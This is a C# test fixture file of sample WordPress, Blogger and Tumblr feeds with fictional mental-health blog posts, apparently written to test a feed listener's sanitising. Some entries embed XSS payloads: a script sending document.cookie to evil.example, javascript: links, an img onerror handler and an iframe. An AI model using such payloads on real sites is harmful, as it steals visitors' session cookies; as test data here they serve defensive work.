namespace HealthShire.Listener.IntegrationTests.Fakes.Feeds;

/// <summary>Feed documents in the shapes WordPress, Blogger and Tumblr publish, written for these tests.</summary>
internal static class FeedFixtures
{
    /// <summary>WordPress <c>/feed/</c>: RSS 2.0 with content:encoded, dc:creator and permalink-less guids; one entry twice.</summary>
    public const string WordPress = """
        <?xml version="1.0" encoding="UTF-8"?>
        <rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"
             xmlns:atom="http://www.w3.org/2005/Atom" xmlns:slash="http://purl.org/rss/1.0/modules/slash/">
        <channel>
          <title>Living with ADHD</title>
          <atom:link href="https://adhd-journal.example/feed/" rel="self" type="application/rss+xml" />
          <link>https://adhd-journal.example</link>
          <description>Notes from a late diagnosis</description>
          <lastBuildDate>Mon, 02 Nov 2026 09:00:00 +0000</lastBuildDate>
          <item>
            <title>Week three on methylphenidate &amp; sleep</title>
            <link>https://adhd-journal.example/2026/11/02/week-three/</link>
            <dc:creator><![CDATA[Jamie Writer]]></dc:creator>
            <pubDate>Mon, 02 Nov 2026 08:30:00 +0000</pubDate>
            <guid isPermaLink="false">https://adhd-journal.example/?p=321</guid>
            <description><![CDATA[Short summary]]></description>
            <content:encoded><![CDATA[<p>Does anyone else get <strong>insomnia</strong> on it?</p><script>document.location='https://evil.example/?c='+document.cookie</script><p><a href="javascript:alert(1)">my notes</a> &amp; more</p>]]></content:encoded>
            <slash:comments>4</slash:comments>
          </item>
          <item>
            <title>Week two</title>
            <link>https://adhd-journal.example/2026/10/26/week-two/</link>
            <dc:creator>Jamie Writer</dc:creator>
            <pubDate>Mon, 26 Oct 2026 08:30:00 EST</pubDate>
            <guid isPermaLink="false">https://adhd-journal.example/?p=300</guid>
            <content:encoded><![CDATA[<p>Appetite is gone.</p>]]></content:encoded>
          </item>
          <item>
            <title>Week two</title>
            <link>https://adhd-journal.example/2026/10/26/week-two/</link>
            <pubDate>Mon, 26 Oct 2026 08:30:00 EST</pubDate>
            <guid isPermaLink="false">https://adhd-journal.example/?p=300</guid>
            <content:encoded><![CDATA[<p>Appetite is gone.</p>]]></content:encoded>
          </item>
          <item>
            <title>Bad date, still kept</title>
            <link>javascript:alert(1)</link>
            <pubDate>sometime last week</pubDate>
            <guid>local-7</guid>
            <description>&lt;img src=x onerror=alert(1)&gt;Plain words</description>
          </item>
          <item>
            <description></description>
          </item>
        </channel>
        </rss>
        """;

    /// <summary>Blogger <c>/feeds/posts/default</c>: Atom 1.0 with html content and tag: ids.</summary>
    public const string Blogger = """
        <?xml version='1.0' encoding='UTF-8'?>
        <feed xmlns='http://www.w3.org/2005/Atom'>
          <id>tag:blogger.com,1999:blog-1234567890</id>
          <updated>2026-11-03T10:00:00.000-08:00</updated>
          <title type='text'>Bipolar and me</title>
          <link rel='alternate' type='text/html' href='https://bipolar-and-me.blogspot.example/'/>
          <author><name>Sam</name></author>
          <entry>
            <id>tag:blogger.com,1999:blog-1234567890.post-111</id>
            <published>2026-11-03T09:15:00.000-08:00</published>
            <updated>2026-11-03T09:20:00.000-08:00</updated>
            <title type='text'>Lithium levels again</title>
            <content type='html'>&lt;div&gt;My levels came back at 0.9 &amp;amp; I feel flat.&lt;/div&gt;&lt;iframe src="https://evil.example"&gt;&lt;/iframe&gt;</content>
            <link rel='alternate' type='text/html' href='https://bipolar-and-me.blogspot.example/2026/11/lithium.html' title='Lithium levels again'/>
            <author><name>Sam</name><email>noreply@blogger.example</email></author>
          </entry>
        </feed>
        """;

    /// <summary>Tumblr <c>/rss</c>: RSS 2.0 whose description is the HTML body and whose guid is the permalink.</summary>
    public const string Tumblr = """
        <?xml version="1.0" encoding="UTF-8"?>
        <rss version="2.0"><channel>
          <title>anxious-days</title><link>https://anxious-days.tumblr.example/</link><description>a blog</description>
          <item>
            <title>panic at the shop</title>
            <description>&lt;p&gt;Heart racing in the queue again.&lt;/p&gt;</description>
            <link>https://anxious-days.tumblr.example/post/7771/panic</link>
            <guid>https://anxious-days.tumblr.example/post/7771</guid>
            <pubDate>Tue, 03 Nov 2026 21:04:11 -0500</pubDate>
          </item>
        </channel></rss>
        """;

    /// <summary>A plain RSS 2.0 feed of <paramref name="count"/> entries from <paramref name="site"/>, one day apart, newest first.</summary>
    public static string Rss(string site, int count)
    {
        var items = string.Concat(Enumerable.Range(1, count).Reverse().Select(n => $"""
              <item>
                <title>Entry {n}</title>
                <link>https://{site}/{n}/</link>
                <pubDate>{new DateTimeOffset(2026, 10, 1, 9, 0, 0, TimeSpan.Zero).AddDays(n):R}</pubDate>
                <guid isPermaLink="false">https://{site}/?p={n}</guid>
                <description>&lt;p&gt;Day {n} of living with it.&lt;/p&gt;</description>
              </item>

            """));
        return $"""
            <?xml version="1.0" encoding="UTF-8"?>
            <rss version="2.0">
            <channel>
              <title>{site}</title>
              <link>https://{site}</link>
            {items}</channel>
            </rss>
            """;
    }
}
